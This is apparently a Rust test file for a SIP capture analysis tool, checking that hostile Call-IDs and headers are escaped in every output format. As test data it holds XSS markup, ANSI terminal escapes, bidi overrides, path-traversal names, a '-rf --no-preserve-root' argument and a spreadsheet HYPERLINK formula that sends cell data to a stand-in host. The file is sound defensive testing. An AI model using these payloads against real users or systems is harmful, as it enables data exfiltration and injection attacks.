//! Output safety on the hostile captures of ../shared/adversarial (T1–T4 of its README):
//! `inject.pcap` (ANSI CSI/OSC sequences, BEL, BS, NUL, DEL, C1 controls, U+202E, invalid UTF-8
//! and markup in Call-ID, From, User-Agent, display name and reason phrase) and `inject2.pcap`
//! (two Call-IDs sharing their 80-character file-name prefix and 32-bit FNV-1a hash, a Call-ID
//! `-rf --no-preserve-root`, CSV formulas, Markdown).
//!
//! Every output format of every command is read back: no byte 0x00–0x1f but the line breaks the
//! format needs, no DEL, no C1 control, no bidirectional control; JSON reads back the exact wire
//! strings; CSV cells that a spreadsheet would run are defused; each call's ladder has a file of
//! its own; Mermaid sources hold no raw markup.

use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::support::repo;

/// A capture of ../shared/adversarial; `None` (skip) only when that folder is absent outside CI.
pub fn adversarial(name: &str) -> Option<PathBuf> {
    let path = repo().join("../shared/adversarial").join(name);
    if path.exists() {
        return Some(path);
    }
    assert!(
        std::env::var_os("CI").is_none(),
        "CI has ../shared beside the clone: {} is missing",
        path.display()
    );
    eprintln!("SKIPPED: ../shared/adversarial not present");
    None
}

/// Runs sipscope with `args`; its stdout (the run must succeed).
fn run<S: AsRef<OsStr>>(args: &[S]) -> Vec<u8> {
    // `--no-progress` right after the command: a `--` may come later.
    let out = Command::new(env!("CARGO_BIN_EXE_sipscope"))
        .arg(&args[0])
        .arg("--no-progress")
        .args(&args[1..])
        .output()
        .unwrap();
    let shown: Vec<String> = args
        .iter()
        .map(|a| a.as_ref().to_string_lossy().into_owned())
        .collect();
    assert!(
        out.status.success(),
        "{shown:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_no_raw_controls(&format!("{shown:?} stderr"), &out.stderr, b"\n");
    out.stdout
}

/// Bidirectional formatting characters: they reorder what a terminal or editor shows.
fn is_bidi(c: char) -> bool {
    matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// No byte 0x00–0x1f other than those in `allowed`, no 0x7f, no U+0080–U+009F, no bidi control.
fn assert_no_raw_controls(what: &str, bytes: &[u8], allowed: &[u8]) {
    if let Some(b) = bytes
        .iter()
        .find(|&&b| (b < 0x20 && !allowed.contains(&b)) || b == 0x7f)
    {
        panic!("{what}: raw byte {b:#04x}");
    }
    let text = String::from_utf8_lossy(bytes);
    if let Some(c) = text
        .chars()
        .find(|&c| ('\u{80}'..='\u{9f}').contains(&c) || is_bidi(c))
    {
        panic!("{what}: raw {c:?}");
    }
}

/// Every file under `dir` but the binary ones (Parquet, PNG).
fn text_files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    let mut todo = vec![dir.to_path_buf()];
    while let Some(d) = todo.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                todo.push(p);
            } else if !matches!(
                p.extension().and_then(|e| e.to_str()),
                Some("parquet" | "png" | "pcapng")
            ) {
                out.push(p);
            }
        }
    }
    out.sort();
    out
}

fn temp_dir(name: &str) -> PathBuf {
    let d = std::env::temp_dir().join(format!("sipscope-safety-{name}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&d);
    d
}

/// The Call-IDs of a capture, as `calls --format json` reads them.
fn call_ids(pcap: &Path) -> Vec<String> {
    String::from_utf8(run(&[
        OsStr::new("calls"),
        "--format".as_ref(),
        "json".as_ref(),
        pcap.as_os_str(),
    ]))
    .unwrap()
    .lines()
    .map(|l| {
        let v: serde_json::Value = serde_json::from_str(l).unwrap();
        v["call_id"].as_str().unwrap().to_string()
    })
    .collect()
}

/// The cells of a CSV text (RFC 4180 quoting).
fn csv_rows(text: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut cell, mut quoted, mut chars) =
        (Vec::new(), String::new(), false, text.chars().peekable());
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') if cell.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\n') => {
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

/// A cell a spreadsheet would run: starts with `=`, `+`, `-`, `@`, TAB or CR and is not a number.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['=', '+', '-', '@', '\t', '\r']) && cell.parse::<f64>().is_err()
}

fn assert_no_formula(what: &str, text: &str) {
    for row in csv_rows(text) {
        for cell in row {
            assert!(!is_formula(&cell), "{what}: formula cell {cell:?}");
        }
    }
}

/// T1: every format of calls, messages, registrations, rtp, alerts, stats and show, on both
/// captures: nothing raw. CSV needs only `\n`; tables and text only `\n`.
#[test]
fn hostile_wire_text_reaches_no_output_raw() {
    let (Some(inject), Some(inject2)) = (adversarial("inject.pcap"), adversarial("inject2.pcap"))
    else {
        return;
    };
    for pcap in [&inject, &inject2] {
        for cmd in [
            "calls",
            "messages",
            "registrations",
            "rtp",
            "alerts",
            "stats",
        ] {
            for format in ["table", "csv", "json"] {
                let out = run(&[
                    OsStr::new(cmd),
                    "--format".as_ref(),
                    format.as_ref(),
                    pcap.as_os_str(),
                ]);
                let what = format!("{cmd} --format {format} {}", pcap.display());
                assert_no_raw_controls(&what, &out, b"\n");
                if format == "csv" {
                    assert_no_formula(&what, &String::from_utf8(out).unwrap());
                }
            }
        }
        // A Call-ID with a NUL cannot be an argument; its call is in every other output.
        for id in call_ids(pcap).into_iter().filter(|id| !id.contains('\0')) {
            for format in ["table", "json"] {
                let out = run(&[
                    OsStr::new("show"),
                    "--format".as_ref(),
                    format.as_ref(),
                    // The Call-ID is an argument, and one of them starts with `-`.
                    "--".as_ref(),
                    id.as_ref(),
                    pcap.as_os_str(),
                ]);
                assert!(!out.is_empty(), "show {id:?}");
                assert_no_raw_controls(&format!("show --format {format} {id:?}"), &out, b"\n");
            }
        }
    }
}

/// T1: JSON keeps the exact wire value (C1 and bidi controls as `\u` escapes that read back the
/// same); CSV and tables show controls as visible escapes.
#[test]
fn json_reads_back_the_exact_wire_strings() {
    let Some(inject) = adversarial("inject.pcap") else {
        return;
    };
    // The Call-IDs of gen_captures.py's `inject`, invalid UTF-8 read as U+FFFD.
    let mut want: Vec<String> = [
        "esc-\x1b]0;PWNED-TITLE\x07-\x1b[31mRED\x1b[0m-\x1b[2J@x",
        "ctl-\x00\x01\x08\x08\x08\x7f\u{fffd}31m@x",
        "\"><img src=x onerror=alert(1)>",
        "</script><svg/onload=alert(3)>",
        "../../etc/x",
        "..",
        "/etc/passwd",
        &"C".repeat(300),
        "\u{202e}gpj.exe-bidi@x",
        "\u{9b}31mC1-CSI@x",
        "nonutf8-\u{fffd}\u{fffd}\x1b[33m@x",
    ]
    .map(String::from)
    .to_vec();
    let mut got = call_ids(&inject);
    want.sort();
    got.sort();
    assert_eq!(got, want);
    let json = run(&[
        OsStr::new("messages"),
        "--format".as_ref(),
        "json".as_ref(),
        inject.as_os_str(),
    ]);
    let agents: Vec<String> = String::from_utf8(json)
        .unwrap()
        .lines()
        .filter_map(|l| {
            let v: serde_json::Value = serde_json::from_str(l).unwrap();
            v["user_agent"].as_str().map(String::from)
        })
        .collect();
    for ua in ["\u{9d}0;c1title\u{9c}", "\u{202e}UA\u{2066}"] {
        assert!(agents.iter().any(|a| a == ua), "{ua:?} in {agents:?}");
    }
    let csv = String::from_utf8(run(&[
        OsStr::new("calls"),
        "--format".as_ref(),
        "csv".as_ref(),
        inject.as_os_str(),
    ]))
    .unwrap();
    assert!(
        csv.contains(r"esc-\x1b]0;PWNED-TITLE\x07-\x1b[31mRED"),
        "{csv}"
    );
    assert!(
        csv.contains(r"\u{202e}gpj.exe-bidi@x") && csv.contains(r"\x9b31mC1-CSI@x"),
        "{csv}"
    );
    let table = String::from_utf8(run(&[OsStr::new("calls"), inject.as_os_str()])).unwrap();
    assert!(table.contains(r"\u{202e}ecila"), "{table}");
}

/// T1, T4: every ladder format, one file per call and to stdout, holds nothing raw; Mermaid
/// holds no markup from the wire.
#[test]
fn ladders_of_hostile_calls_hold_no_raw_controls_or_markup() {
    let (Some(inject), Some(inject2)) = (adversarial("inject.pcap"), adversarial("inject2.pcap"))
    else {
        return;
    };
    for pcap in [&inject, &inject2] {
        for format in ["text", "html", "svg", "mermaid"] {
            let dir = temp_dir(&format!("ladder-{format}"));
            run(&[
                OsStr::new("ladder"),
                "--all".as_ref(),
                "--format".as_ref(),
                format.as_ref(),
                "-o".as_ref(),
                dir.as_os_str(),
                pcap.as_os_str(),
            ]);
            let files = text_files(&dir);
            assert_eq!(
                files.len(),
                call_ids(pcap).len(),
                "{format}: one file per call"
            );
            for f in &files {
                let body = std::fs::read(f).unwrap();
                assert_no_raw_controls(&f.display().to_string(), &body, b"\n");
                if format == "mermaid" {
                    let body = String::from_utf8(body).unwrap();
                    // Without the diagram's own syntax: arrows and the line break in titles.
                    let bare = body
                        .replace("-->>", "")
                        .replace("->>", "")
                        .replace("<br/>", "");
                    for c in ['<', '>', '"', '`', '&'] {
                        assert!(!bare.contains(c), "{}: raw {c:?}", f.display());
                    }
                    assert!(!bare.contains("%%{"), "{}: a directive", f.display());
                }
            }
            std::fs::remove_dir_all(&dir).ok();
        }
    }
    // To stdout, one call at a time (a Call-ID with a NUL cannot be an argument).
    for id in call_ids(&inject)
        .into_iter()
        .filter(|id| !id.contains('\0'))
    {
        for format in ["text", "html", "svg", "mermaid"] {
            let out = run(&[
                OsStr::new("ladder"),
                "--format".as_ref(),
                format.as_ref(),
                "--call-id".as_ref(),
                id.as_ref(),
                inject.as_os_str(),
            ]);
            assert_no_raw_controls(
                &format!("ladder --format {format} --call-id {id:?}"),
                &out,
                b"\n",
            );
        }
    }
}

/// T2: `ladder --all` on two Call-IDs with the same 80-character prefix and the same 32-bit
/// FNV-1a hash: two files, each with its own call; no name starts with `-` or `.`.
#[test]
fn ladder_all_gives_each_call_its_own_file() {
    let Some(inject2) = adversarial("inject2.pcap") else {
        return;
    };
    for format in ["svg", "text"] {
        let dir = temp_dir(&format!("names-{format}"));
        run(&[
            OsStr::new("ladder"),
            "--all".as_ref(),
            "--format".as_ref(),
            format.as_ref(),
            "-o".as_ref(),
            dir.as_os_str(),
            inject2.as_os_str(),
        ]);
        let names: Vec<String> = std::fs::read_dir(&dir)
            .unwrap()
            .flatten()
            .map(|e| e.file_name().to_string_lossy().into_owned())
            .collect();
        assert_eq!(names.len(), 6, "{names:?}");
        for n in &names {
            assert!(!n.starts_with('-') && !n.starts_with('.'), "{n}");
            assert!(
                n.chars()
                    .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c)),
                "{n}"
            );
        }
        let collide: Vec<&String> = names.iter().filter(|n| n.starts_with("collide-")).collect();
        assert_eq!(collide.len(), 2, "{names:?}");
        let bodies: Vec<String> = collide
            .iter()
            .map(|n| std::fs::read_to_string(dir.join(n)).unwrap())
            .collect();
        assert!(bodies
            .iter()
            .any(|b| b.contains("UA-FIRST") && !b.contains("UA-SECOND")));
        assert!(bodies
            .iter()
            .any(|b| b.contains("UA-SECOND") && !b.contains("UA-FIRST")));
        std::fs::remove_dir_all(&dir).ok();
    }
}

/// T1, T3: the report's files: nothing raw in the page, the summary or any CSV; formulas
/// defused in every CSV; Parquet keeps the exact wire value.
#[test]
fn report_files_hold_no_raw_controls_or_live_formulas() {
    let (Some(inject), Some(inject2)) = (adversarial("inject.pcap"), adversarial("inject2.pcap"))
    else {
        return;
    };
    for pcap in [&inject, &inject2] {
        let dir = temp_dir("report");
        run(&[
            OsStr::new("report"),
            "-o".as_ref(),
            dir.as_os_str(),
            pcap.as_os_str(),
        ]);
        let files = text_files(&dir);
        assert!(files.len() > 10, "{files:?}");
        for f in &files {
            let body = std::fs::read(f).unwrap();
            assert_no_raw_controls(&f.display().to_string(), &body, b"\n");
            if f.extension().is_some_and(|e| e == "csv") {
                assert_no_formula(&f.display().to_string(), &String::from_utf8(body).unwrap());
            }
        }
        if pcap == &inject2 {
            let csv = std::fs::read_to_string(dir.join("data/calls.csv")).unwrap();
            assert!(
                csv.contains(r#""'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")""#),
                "{csv}"
            );
            assert!(
                csv.contains("'-rf --no-preserve-root") && csv.contains(",'=1+1,"),
                "{csv}"
            );
            use polars::prelude::{ParquetReader, SerReader};
            let df =
                ParquetReader::new(std::fs::File::open(dir.join("data/calls.parquet")).unwrap())
                    .finish()
                    .unwrap();
            let ids: Vec<&str> = df
                .column("call_id")
                .unwrap()
                .str()
                .unwrap()
                .iter()
                .flatten()
                .collect();
            assert!(
                ids.contains(&"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"),
                "{ids:?}"
            );
            assert!(ids.contains(&"-rf --no-preserve-root"), "{ids:?}");
        }
        std::fs::remove_dir_all(&dir).ok();
    }
}
